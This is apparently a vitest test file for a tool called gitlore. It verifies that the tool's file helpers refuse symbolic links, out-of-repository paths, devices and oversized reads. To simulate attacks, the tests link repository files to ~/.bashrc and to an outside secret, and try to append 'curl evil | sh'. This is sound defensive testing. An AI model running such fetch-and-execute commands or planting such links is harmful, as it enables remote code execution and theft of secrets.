import { chmod, mkdir, mkdtemp, readdir, readFile, realpath, stat, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { FileWriteError } from '../errors/file-write-error.js'
import { UnsafePathError } from '../errors/unsafe-path-error.js'
import { checkWritablePath } from './confined-path.js'
import { readBoundedFile } from './read-bounded-file.js'
import { appendConfinedFile, writeConfinedFile } from './write-confined-file.js'
import { locateWriteRoot } from './write-root.js'

let repository: string
let outside: string

/** Every file below a directory with its bytes, to prove a sentinel directory unchanged. */
async function snapshot(dir: string): Promise<Record<string, string>> {
  const result: Record<string, string> = {}
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (entry.isFile()) {
      const path = join(entry.parentPath, entry.name)
      result[path] = await readFile(path, 'latin1')
    }
  }
  return result
}

beforeEach(async () => {
  const base = await realpath(await mkdtemp(join(tmpdir(), 'gitlore-confined-')))
  repository = join(base, 'repo')
  outside = join(base, 'outside')
  await mkdir(repository)
  await mkdir(outside)
  await writeFile(join(outside, '.bashrc'), 'export PATH=/usr/bin\n')
})

describe('writeConfinedFile', () => {
  it('writes atomically and makes missing directories', async () => {
    await writeConfinedFile(join(repository, '.gitlore', 'context.json'), '{}\n', { root: repository })
    expect(await readFile(join(repository, '.gitlore', 'context.json'), 'utf8')).toBe('{}\n')
    expect(await readdir(join(repository, '.gitlore'))).toEqual(['context.json'])
  })

  it.each([
    ['a linked directory', '.gitlore', 'context.json'],
    ['a linked nested directory', '.github', 'copilot-instructions.md'],
  ])('refuses %s and leaves the outside untouched', async (_, directory, file) => {
    await symlink(outside, join(repository, directory))
    const before = await snapshot(outside)
    const error = await writeConfinedFile(join(repository, directory, file), 'x', { root: repository }).catch(
      (caught: unknown) => caught,
    )
    expect(error).toBeInstanceOf(UnsafePathError)
    expect((error as Error).message).toMatch(/is a symbolic link; gitlore never reads or writes through links/)
    expect((error as Error).message.split('\n')).toHaveLength(1)
    expect(await snapshot(outside)).toEqual(before)
  })

  it('refuses a link where the file goes, instead of replacing or following it', async () => {
    await symlink(join(outside, '.bashrc'), join(repository, 'CLAUDE.md'))
    const before = await snapshot(outside)
    await expect(writeConfinedFile(join(repository, 'CLAUDE.md'), 'x', { root: repository })).rejects.toThrow(
      UnsafePathError,
    )
    expect(await snapshot(outside)).toEqual(before)
    expect((await readdir(repository)).sort()).toEqual(['CLAUDE.md'])
  })

  it('refuses a path outside its root', async () => {
    await expect(writeConfinedFile(join(outside, 'x'), 'x', { root: repository })).rejects.toThrow(/is outside/)
  })

  it('says in one line what to do when the directory is read-only', async () => {
    if (process.getuid?.() === 0) return
    await mkdir(join(repository, '.gitlore'))
    await chmod(join(repository, '.gitlore'), 0o555)
    const error = await writeConfinedFile(join(repository, '.gitlore', 'context.json'), 'x', {
      root: repository,
    }).catch((caught: unknown) => caught)
    await chmod(join(repository, '.gitlore'), 0o755)
    expect(error).toBeInstanceOf(FileWriteError)
    expect((error as Error).message).toMatch(/^cannot write .*context\.json: permission denied; /)
  })
})

describe('appendConfinedFile', () => {
  it('appends to a regular file', async () => {
    await appendConfinedFile(join(repository, '.gitlore', 'gitlore.log'), 'one\n', { root: repository })
    await appendConfinedFile(join(repository, '.gitlore', 'gitlore.log'), 'two\n', { root: repository })
    expect(await readFile(join(repository, '.gitlore', 'gitlore.log'), 'utf8')).toBe('one\ntwo\n')
  })

  it('refuses a committed gitlore.log -> ~/.bashrc', async () => {
    await mkdir(join(repository, '.gitlore'))
    await symlink(join(outside, '.bashrc'), join(repository, '.gitlore', 'gitlore.log'))
    const before = await snapshot(outside)
    await expect(
      appendConfinedFile(join(repository, '.gitlore', 'gitlore.log'), 'curl evil | sh\n', { root: repository }),
    ).rejects.toThrow(/gitlore\.log is a symbolic link/)
    expect(await snapshot(outside)).toEqual(before)
  })
})

describe('checkWritablePath', () => {
  it('accepts a missing or regular file, refuses a link and a linked directory', async () => {
    expect(await checkWritablePath(repository, '.gitlore/cache.db')).toBe(join(repository, '.gitlore', 'cache.db'))
    await symlink(join(outside, '.bashrc'), join(repository, '.gitlore', 'cache.db-wal'))
    await expect(checkWritablePath(repository, '.gitlore/cache.db-wal')).rejects.toThrow(UnsafePathError)
    await symlink(outside, join(repository, 'linked'))
    await expect(checkWritablePath(repository, 'linked/cache.db')).rejects.toThrow(UnsafePathError)
  })

  it('says in one line that a file is in the way of the directory chosen for the outputs', async () => {
    const chosen = join(outside, '.bashrc', 'reports')
    const error = await checkWritablePath(chosen, join(chosen, 'gitlore-report.md'), { create: false }).catch(
      (caught: unknown) => caught,
    )
    expect(error).toBeInstanceOf(FileWriteError)
    expect((error as Error).message).toBe(
      `cannot write ${join(chosen, 'gitlore-report.md')}: a file is in the way of a directory; make its directory writable, or choose another place with --out`,
    )
  })
})

describe('readBoundedFile', () => {
  it('reads a regular file and returns null for a missing one', async () => {
    await writeFile(join(repository, 'CLAUDE.md'), 'notes\n')
    expect(String(await readBoundedFile(join(repository, 'CLAUDE.md'), { maxBytes: 100, root: repository }))).toBe(
      'notes\n',
    )
    expect(await readBoundedFile(join(repository, 'AGENTS.md'), { maxBytes: 100, root: repository })).toBeNull()
  })

  it('refuses CLAUDE.md -> a secret outside, and CLAUDE.md -> /dev/zero, without reading them', async () => {
    await writeFile(join(outside, 'secret'), 'TOP SECRET')
    await symlink(join(outside, 'secret'), join(repository, 'CLAUDE.md'))
    await symlink('/dev/zero', join(repository, 'AGENTS.md'))
    for (const name of ['CLAUDE.md', 'AGENTS.md']) {
      await expect(readBoundedFile(join(repository, name), { maxBytes: 1 << 20, root: repository })).rejects.toThrow(
        /is a symbolic link/,
      )
    }
  })

  it('refuses a device and a file past the bound even where links are followed', async () => {
    const before = process.memoryUsage().rss
    await expect(readBoundedFile('/dev/zero', { maxBytes: 1 << 20 })).rejects.toThrow(/not a regular file/)
    await writeFile(join(outside, 'big'), Buffer.alloc(4096))
    await expect(readBoundedFile(join(outside, 'big'), { maxBytes: 4095 })).rejects.toThrow(/larger than 4,095 bytes/)
    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024)
  })
})

describe('locateWriteRoot', () => {
  it('confines a target inside the repository to the repository', async () => {
    expect(await locateWriteRoot(join(repository, 'docs', 'out'), repository)).toEqual({
      root: repository,
      relative: join('docs', 'out'),
    })
    expect(await locateWriteRoot(repository, repository)).toEqual({ root: repository, relative: '' })
  })

  it('trusts a directory the user chose outside the repository, links of theirs included', async () => {
    expect(await locateWriteRoot(join(outside, 'reports'), repository)).toEqual({
      root: join(outside, 'reports'),
      relative: '',
    })
    await symlink(outside, join(outside, '..', 'my-link'))
    expect(await locateWriteRoot(join(outside, '..', 'my-link', 'reports'), repository)).toEqual({
      root: join(outside, 'reports'),
      relative: '',
    })
  })

  it('checks the repository part of a path reached through the user’s own link into it', async () => {
    await symlink(repository, join(outside, 'repo-link'))
    expect(await locateWriteRoot(join(outside, 'repo-link', 'docs'), repository)).toEqual({
      root: repository,
      relative: 'docs',
    })
    await symlink(outside, join(repository, 'docs'))
    const where = await locateWriteRoot(join(repository, 'docs'), repository)
    await expect(writeConfinedFile(join(where.root, where.relative, 'r.md'), 'x', where)).rejects.toThrow(
      /docs is a symbolic link/,
    )
    expect((await stat(join(outside, 'r.md')).catch(() => null)) === null).toBe(true)
  })
})
